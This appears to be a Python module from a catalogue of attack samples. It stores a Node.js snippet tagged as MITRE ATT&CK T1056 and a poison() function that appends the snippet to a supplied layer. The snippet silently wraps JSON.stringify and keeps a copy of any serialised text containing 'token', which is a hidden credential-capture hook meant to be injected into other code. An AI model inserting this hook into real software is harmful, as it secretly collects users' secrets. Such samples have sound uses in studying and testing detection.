# SPDX-License-Identifier: Apache-2.0
"""Keeps a copy of what is written as JSON and holds a token."""

ATTACK = "T1056"
LANGUAGE = "node"
CODE = """\
;(() => {
  const kept = [], write = JSON.stringify;
  JSON.stringify = (...a) => {
    const text = write(...a);
    if (/token/i.test(text)) kept.push(text);
    return text;
  };
})();
"""


def poison(layer):
    layer.append(CODE)
